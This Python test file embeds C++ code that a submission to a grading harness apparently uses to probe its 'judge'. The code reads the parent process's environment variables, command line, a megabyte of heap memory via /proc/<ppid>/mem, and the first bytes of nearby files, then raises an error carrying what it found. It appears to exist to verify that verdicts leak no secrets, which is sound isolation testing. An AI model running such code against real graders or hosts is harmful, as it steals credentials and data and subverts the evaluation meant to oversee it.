# ruff: noqa
"""C++ reads what its judge holds: /proc/<ppid>/environ and cmdline, a megabyte of its heap through
/proc/<ppid>/mem (refused to a plain user by PR_SET_DUMPABLE 0, not to root), and every file in its working
directory and its parent (the spec, the result, the stderr file; names only two folders up), then raises with a
summary of what it got and the first bytes of each: the verdict must hold no secret."""

import torch
from torch.utils.cpp_extension import load_inline

_SRC = r"""
#include <torch/extension.h>
#include <cstdlib>
#include <dirent.h>
#include <fcntl.h>
#include <string>
#include <unistd.h>
// POSIX reads and std::to_string only: iostreams' number formatting crashed inline extensions on the H200's
// toolchain (outside the guard too), which hid what the entry tests.
static std::string slurp(const std::string& path, size_t limit = 1 << 20) {
  std::string data(limit, '\0');
  int fd = open(path.c_str(), O_RDONLY);
  ssize_t got = fd >= 0 ? read(fd, &data[0], limit) : -1;
  if (fd >= 0) close(fd);
  data.resize(got > 0 ? got : 0);
  return data;
}
static std::string printable(const std::string& data, size_t limit = 80) {
  std::string out;
  for (char c : data.substr(0, limit)) out += (c >= 32 && c < 127) ? c : '.';
  return out;
}
std::string look() {
  std::string judge = "/proc/" + std::to_string(getppid());
  std::string said;
  std::string environ = slurp(judge + "/environ");
  said += "judge environ " + std::to_string(environ.size()) + " bytes [" + printable(environ) + "]; ";
  said += "cmdline [" + printable(slurp(judge + "/cmdline")) + "]; ";
  std::string maps = slurp(judge + "/maps", 1 << 22);
  int mem = open((judge + "/mem").c_str(), O_RDONLY);
  size_t heap = 0;
  for (size_t at = 0, end; mem >= 0 && at < maps.size(); at = end + 1) {
    end = maps.find('\n', at);
    if (end == std::string::npos) end = maps.size();
    std::string line = maps.substr(at, end - at);
    if (line.find("[heap]") == std::string::npos) continue;
    unsigned long lo = std::strtoul(line.c_str(), nullptr, 16);
    std::string chunk(1 << 20, '\0');
    ssize_t got = pread(mem, &chunk[0], chunk.size(), (off_t)lo);
    heap = got > 0 ? got : 0;
  }
  said += "judge heap read: " + std::to_string(heap) + " bytes (mem " + (mem >= 0 ? "opened" : "refused") + "); files:";
  if (mem >= 0) close(mem);
  const char* home = std::getenv("HOME");
  std::string folder = home ? home : ".";
  for (int up = 0; up < 3; up++, folder += "/..") {
    DIR* dir = opendir(folder.c_str());
    if (dir == nullptr) continue;
    int shown = 0;
    while (dirent* entry = readdir(dir)) {
      std::string name = entry->d_name;
      if (entry->d_type != DT_REG || ++shown > 8) continue;
      said += " " + name;  // two folders up is shared (/tmp): names only
      if (up < 2) said += " [" + printable(slurp(folder + "/" + name, 4096), 40) + "]";
    }
    closedir(dir);
  }
  return said;
}
"""
_ext = load_inline("native_read_judge_memory", cpp_sources=_SRC, functions=["look"], verbose=False)


def run(x: torch.Tensor) -> torch.Tensor:
    raise RuntimeError(_ext.look())
